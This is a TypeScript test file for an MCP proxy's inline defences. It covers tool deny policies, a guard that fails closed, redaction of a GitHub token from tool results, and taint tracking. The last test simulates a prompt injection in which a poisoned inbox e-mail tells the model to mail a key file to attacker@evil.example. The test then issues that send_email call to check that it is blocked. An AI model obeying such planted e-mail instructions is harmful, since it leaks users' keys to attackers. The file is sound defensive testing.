/**
 * Inline defence inside the stdio proxy, message by message: batches where some members are refused and others
 * pass, a guard that throws (fail closed), and answers rewritten on their way back. Real proxy, real upstream
 * process, real policy and DLP engines.
 */
import assert from "node:assert/strict";
import { test } from "node:test";
import { defaultConfig, parseConfig } from "../../src/config/config.js";
import type { InlineGuard } from "../../src/core/guard.js";
import { DlpEngine } from "../../src/defence/dlp/dlp-scanner.js";
import { InlineDefence } from "../../src/defence/inline-defence.js";
import { PolicyEngine } from "../../src/defence/policy/policy-engine.js";
import { parsePolicy } from "../../src/defence/policy/policy-file.js";
import { createDefence } from "../../src/runtime/defence.js";
import { paths, startProxy } from "../capture/proxy-harness.js";

const initialize = { protocolVersion: "2025-06-18", capabilities: {}, clientInfo: { name: "t", version: "1" } };
const call = (id: string, name: string, args: Record<string, unknown>) => ({
  jsonrpc: "2.0",
  id,
  method: "tools/call",
  params: { name, arguments: args },
});

function policyEngine(text: string): PolicyEngine {
  const parsed = parsePolicy(text, "policy.yaml");
  if (!parsed.ok) throw new Error(parsed.error);
  return new PolicyEngine(parsed.policy);
}

test("a batch with a refused member: the others pass, the refused one is answered and recorded", async () => {
  const engine = policyEngine(
    'version: 1\ndefault: allow\npolicies:\n  - name: p\n    tools:\n      deny: ["test/crash"]\n',
  );
  const guard = new InlineDefence({ policy: { engine }, dlp: new DlpEngine(defaultConfig().dlp) });
  const harness = startProxy({ guard });
  await harness.call(1, "initialize", initialize);
  const passed = harness.reader.response("a");
  const refused = harness.reader.response("b");
  const redacted = harness.reader.response("c");
  harness.send([
    call("a", "echo", { text: "fine" }),
    call("b", "crash", { code: 1 }),
    call("c", "echo", { text: "mail jane.doe@example.org" }),
  ]);
  assert.deepEqual((await passed).result, { content: [{ type: "text", text: "fine" }] });
  assert.deepEqual((await refused).error, { code: -32003, message: "The request was not permitted." });
  // E-mail addresses only alert by default: the call passes unchanged, the record is masked.
  assert.deepEqual((await redacted).result, { content: [{ type: "text", text: "mail jane.doe@example.org" }] });
  harness.input.end();
  assert.equal(await harness.done, 0, "the crash tool never reached the server");
  const byId = (id: string) => harness.records.find((record) => record.request_id === id);
  assert.equal(byId("b")?.error?.type, "refused");
  assert.equal(byId("b")?.decisions?.[0]?.rule, "p/tools.deny[0]");
  assert.equal(byId("a")?.decisions, undefined);
  assert.deepEqual(byId("c")?.arguments, { text: "mail [REDACTED:email]" });
  assert.equal(byId("c")?.result, "mail [REDACTED:email]");
  assert.equal(harness.proxy.counters().guard_refused, 1);
});

test("a guard that throws fails closed: the call is refused, counted and recorded", async () => {
  const broken: InlineGuard = {
    inspectRequest: (_session, request) => {
      if (request.method === "tools/call") throw new Error("policy store unreachable");
      return null;
    },
    inspectResponse: () => null,
    endSession: () => {},
  };
  const harness = startProxy({ guard: broken });
  await harness.call(1, "initialize", initialize);
  const answer = await harness.call("x", "tools/call", { name: "echo", arguments: { text: "hi" } });
  assert.deepEqual(answer.error, { code: -32003, message: "The request was not permitted." });
  harness.input.end();
  await harness.done;
  const record = harness.records.find((candidate) => candidate.request_id === "x");
  assert.equal(record?.error?.type, "refused");
  assert.equal(record?.decisions?.[0]?.rule, "guard_failure");
  assert.match(record?.decisions?.[0]?.reason ?? "", /policy store unreachable/);
  assert.equal(harness.proxy.counters().guard_errors, 1);
});

test("a secret in a result is redacted before the client and the store see it", async () => {
  const guard = new InlineDefence({ dlp: new DlpEngine(defaultConfig().dlp) });
  const harness = startProxy({ guard, args: [`${paths.root}dist/test/fixtures/poisoned-server.js`] });
  await harness.call(1, "initialize", initialize);
  const answer = await harness.call("r", "tools/call", { name: "read_env", arguments: {} });
  const text = JSON.stringify(answer.result);
  assert.match(text, /NODE_ENV=production/);
  assert.match(text, /\[REDACTED:github_token\]/);
  assert.ok(!text.includes("ghp_R8x2"), "the model never sees the token");
  harness.input.end();
  await harness.done;
  const record = harness.records.find((candidate) => candidate.request_id === "r");
  assert.ok(!JSON.stringify(record).includes("ghp_R8x2"), "nor does the store");
  assert.deepEqual(
    record?.decisions?.map((decision) => [decision.stage, decision.action, decision.direction]),
    [["dlp", "redact", "result"]],
  );
});

test("prevention: the call that carries values from a poisoned result is held before it reaches the server", async () => {
  const defence = createDefence(parseConfig("poisoning:\n  result_action: alert\n"), { database: null, log: () => {} });
  assert.ok(defence.guard !== null);
  const harness = startProxy({ guard: defence.guard, args: [`${paths.root}dist/test/fixtures/poisoned-server.js`] });
  try {
    await harness.call(1, "initialize", initialize);
    // The e-mail asks the model to mail a key file to the attacker; with `alert` the model still reads it.
    const inbox = await harness.call("inbox", "tools/call", { name: "read_inbox", arguments: {} });
    assert.match(JSON.stringify(inbox.result), /attacker@evil\.example/);
    const attack = await harness.call("attack", "tools/call", {
      name: "send_email",
      arguments: { to: "attacker@evil.example", body: "here is the key" },
    });
    assert.deepEqual(attack.error, { code: -32003, message: "The request was not permitted." });
    // A call that carries nothing from the poisoned result goes through.
    const note = await harness.call("note", "tools/call", {
      name: "send_email",
      arguments: { to: "me@home.example", body: "hi" },
    });
    assert.ok(note.result !== undefined);
    harness.input.end();
    await harness.done;
  } finally {
    defence.close();
  }
  const record = harness.records.find((candidate) => candidate.request_id === "attack");
  const tainted = record?.decisions?.find((decision) => decision.rule === "tainted_arguments");
  assert.equal(tainted?.action, "block");
  assert.match(tainted?.reason ?? "", /call 0 \(read_inbox\)/);
});
